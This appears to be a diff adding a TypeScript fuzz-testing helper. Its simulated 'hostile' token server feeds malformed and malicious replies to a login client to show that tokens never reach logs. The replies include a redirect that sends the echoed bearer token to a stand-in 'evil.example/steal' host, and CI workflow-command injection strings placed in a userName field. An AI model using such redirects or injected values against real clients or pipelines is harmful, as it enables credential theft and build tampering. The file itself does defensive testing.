@@ -1,0 +1,153 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { ROOT } from '../e2e/github-runner.ts';
+import { LoopbackServer, type RecordedRequest, type Reply } from '../emulators/loopback-server.ts';
+
+/** A small seeded PRNG (mulberry32), so a failing case can be replayed from its seed. */
+export function seededRandom(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = a;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const pick = <T>(rand: () => number, items: readonly T[]): T => items[Math.floor(rand() * items.length)] as T;
+
+function randomBytes(rand: () => number, length: number): Buffer {
+  return Buffer.from(Array.from({ length }, () => Math.floor(rand() * 256)));
+}
+
+function randomText(rand: () => number, length: number): string {
+  return Array.from({ length }, () => String.fromCharCode(Math.floor(rand() * 0x2fff))).join('');
+}
+
+const STATUSES = [
+  200, 200, 200, 201, 204, 301, 302, 400, 401, 403, 404, 405, 409, 418, 429, 500, 502, 503, 504, 599,
+];
+
+/**
+ * One hostile answer. Many echo what the client sent (subject token, client assertion, bearer
+ * token) inside errors, HTML or headers, to prove none of it reaches a log.
+ */
+export function hostileReply(rand: () => number, request: RecordedRequest, allowHang: boolean): Reply {
+  const echoed =
+    request.form.get('subject_token') ??
+    request.form.get('client_assertion') ??
+    String(request.headers.authorization ?? '').replace(/^Bearer /, '');
+  const status = pick(rand, STATUSES);
+  const kind = Math.floor(rand() * 16);
+  switch (kind) {
+    case 0:
+      return { status, body: randomBytes(rand, Math.floor(rand() * 4096)) };
+    case 1:
+      return { status, body: randomText(rand, Math.floor(rand() * 2048)) };
+    case 2:
+      return { status: 200, body: Buffer.alloc(1024 * 1024 + 1 + Math.floor(rand() * 4096), 0x41) };
+    case 3: {
+      const depth = 2000 + Math.floor(rand() * 50_000);
+      return { status, body: `${'['.repeat(depth)}${']'.repeat(depth)}` };
+    }
+    case 4:
+      return { status, body: `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}` };
+    case 5:
+      return {
+        status: 200,
+        body: {
+          access_token: pick(rand, [123, null, ['x'], { t: 1 }, '', 'has space', true]),
+          expires_in: 300,
+        },
+      };
+    case 6:
+      return {
+        status: 200,
+        body: {
+          access_token: `tok-${Math.floor(rand() * 1e9)}`,
+          expires_in: pick(rand, ['NaN', -5, 1e308, '3600', null, {}]),
+        },
+      };
+    case 7:
+      return {
+        status: pick(rand, [400, 401, 403]),
+        body: { error: 'invalid_request', error_description: `bad token ${echoed}` },
+      };
+    case 8:
+      return {
+        status,
+        body: `<html><body>Sign in again<script>var t="${echoed}"</script></body></html>`,
+        headers: { 'content-type': 'text/html' },
+      };
+    case 9:
+      return {
+        status,
+        body: { error: { nested: [1, 2, 3] }, error_description: 42, message: null, access_token: echoed },
+      };
+    case 10:
+      return {
+        status: pick(rand, [429, 503]),
+        headers: {
+          'retry-after': pick(rand, ['-1', 'abc', '999999', 'Wed, 21 Oct 2099 07:28:00 GMT', '0', '2']),
+        },
+      };
+    case 11:
+      return {
+        status: pick(rand, [301, 302, 307]),
+        headers: { location: `http://evil.example/steal?t=${encodeURIComponent(echoed)}` },
+      };
+    case 12:
+      return allowHang && rand() < 0.3 ? { status: 200, hang: true } : { status: 200, body: '' };
+    case 13:
+      return {
+        status,
+        body: JSON.stringify({
+          userName: pick(rand, [
+            7,
+            null,
+            '',
+            '\n::set-output name=x::y',
+            '##vso[task.setvariable variable=X]y',
+          ]),
+        }),
+      };
+    case 14:
+      return { status, body: 'null' };
+    default:
+      return {
+        status: 200,
+        body: {
+          access_token: `ok-${Math.floor(rand() * 1e9)}`,
+          token_type: 'Bearer',
+          expires_in: 300,
+          userName: 'fuzz@example.com',
+          value: echoed,
+          oidcToken: echoed,
+        },
+      };
+  }
+}
+
+/** A server whose every answer comes from `hostileReply`, seeded per request. */
+export class HostileServer extends LoopbackServer {
+  rand: () => number = seededRandom(1);
+  allowHang = false;
+
+  protected handle(request: RecordedRequest): Reply {
+    return hostileReply(this.rand, request, this.allowHang);
+  }
+}
+
+/** Records a fuzz run's counts for .ci/run to report. */
+export function writeFuzzReport(
+  name: string,
+  report: { cases: number; crashes: number; leaks: number; succeeded: number },
+): void {
+  const dir = join(ROOT, 'build');
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(join(dir, `fuzz-${name}.json`), JSON.stringify(report));
+  console.log(
+    `fuzz ${name}: ${report.cases} cases, ${report.crashes} crashes, ${report.leaks} leaks, ${report.succeeded} logins succeeded`,
+  );
+}
